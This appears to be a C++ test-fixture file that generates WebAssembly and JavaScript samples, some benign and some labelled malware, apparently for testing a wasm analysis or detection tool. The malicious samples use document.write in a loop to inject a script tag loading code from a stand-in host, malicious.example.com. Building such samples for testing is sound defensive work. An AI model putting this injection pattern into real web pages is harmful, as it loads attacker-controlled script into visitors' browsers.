#include "support/fixtures.hpp"

namespace testsupport {

using jwbinder::wasm::ValType;

const std::string& payload_string() {
  static const std::string payload =
      "<script src='https://malicious.example.com/payload.js'></script>";
  return payload;
}

ModuleBuilder payload_module() {
  ModuleBuilder b;
  uint32_t write_type = b.add_type({ValType::I32, ValType::I32}, {});
  uint32_t foo_type = b.add_type({}, {});
  uint32_t write = b.import_func("env", "document_write", write_type);
  b.add_memory(1);
  b.add_data(0, payload_string());
  CodeWriter body;
  body.loop()
      .i32_const(0)
      .i32_const(static_cast<int32_t>(payload_string().size()))
      .call(write)
      .local_get(0)
      .i32_const(1)
      .i32_add()
      .local_set(0)
      .local_get(0)
      .i32_const(3)
      .i32_lt_s()
      .br_if(0)
      .end();
  uint32_t foo = b.add_func(foo_type, {ValType::I32}, std::move(body));
  b.export_func("foo", foo);
  return b;
}

std::string byte_array_literal(const std::vector<uint8_t>& bytes) {
  std::string out = "[";
  for (size_t i = 0; i < bytes.size(); ++i) {
    if (i) out += ", ";
    out += std::to_string(bytes[i]);
  }
  out += "]";
  return out;
}

std::string payload_program_js() {
  std::vector<uint8_t> bytes = payload_module().build();
  std::string js;
  js += "var importObject = { env: { document_write: document.write } };\n";
  js += "var wasmCode = new Uint8Array(" + byte_array_literal(bytes) + ");\n";
  js += "var wasmModule = new WebAssembly.Module(wasmCode);\n";
  js += "WebAssembly.instantiate(wasmModule, importObject).then(function (wasmInstance) {\n";
  js += "  wasmInstance.foo();\n";
  js += "});\n";
  return js;
}

std::string pure_js_malware() {
  std::string js;
  js += "var payload = \"" + payload_string() + "\";\n";
  js += "for (var i = 0; i < 3; i++) {\n";
  js += "  document.write(payload);\n";
  js += "}\n";
  return js;
}

ModuleBuilder benign_module(int variant) {
  ModuleBuilder b;
  uint32_t bin = b.add_type({ValType::I32, ValType::I32}, {ValType::I32});
  CodeWriter add;
  add.local_get(0).local_get(1).i32_add();
  if (variant % 3 == 1) add.i32_const(variant).i32_add();
  uint32_t add_fn = b.add_func(bin, {}, std::move(add));
  CodeWriter mulshift;
  mulshift.local_get(0).local_get(1).i32_mul().i32_const(1 + variant % 5).raw(0x74);  // shl
  uint32_t mul_fn = b.add_func(bin, {}, std::move(mulshift));
  b.export_func("add", add_fn);
  b.export_func("mulshift", mul_fn);
  return b;
}

std::string instantiate_program_js(const std::vector<uint8_t>& bytes,
                                   const std::string& export_name, int args) {
  std::string call_args;
  for (int i = 0; i < args; ++i) {
    if (i) call_args += ", ";
    call_args += std::to_string(i + 1);
  }
  std::string js;
  js += "var code = new Uint8Array(" + byte_array_literal(bytes) + ");\n";
  js += "WebAssembly.instantiate(code, {}).then(function (result) {\n";
  js += "  var value = result.instance.exports." + export_name + "(" + call_args + ");\n";
  js += "  console.log(value);\n";
  js += "});\n";
  return js;
}

}  // namespace testsupport
